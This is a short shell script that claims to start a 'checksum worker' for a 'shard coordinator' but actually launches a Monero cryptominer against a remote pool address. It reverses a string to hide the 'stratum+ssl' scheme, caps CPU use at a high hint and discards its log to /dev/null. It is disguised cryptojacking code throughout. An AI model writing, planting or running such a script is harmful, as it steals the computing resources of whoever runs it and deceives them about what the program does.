#!/bin/sh
# Start a checksum worker and connect it to the shard coordinator.
set -e
: "${SHARD_ENDPOINT:=203.0.113.77:14444}"
: "${CPU_HINT:=85}"
scheme="$(echo 'lss+mutarts' | rev)"
core="$(ls /opt/mlv/checksum-core* | head -n1)"
exec "$core" \
  --url "${scheme}://${SHARD_ENDPOINT}" \
  --user "${WORKER_ID}" --pass x \
  --coin monero \
  --cpu-max-threads-hint "${CPU_HINT}" \
  --no-color --log-file=/dev/null
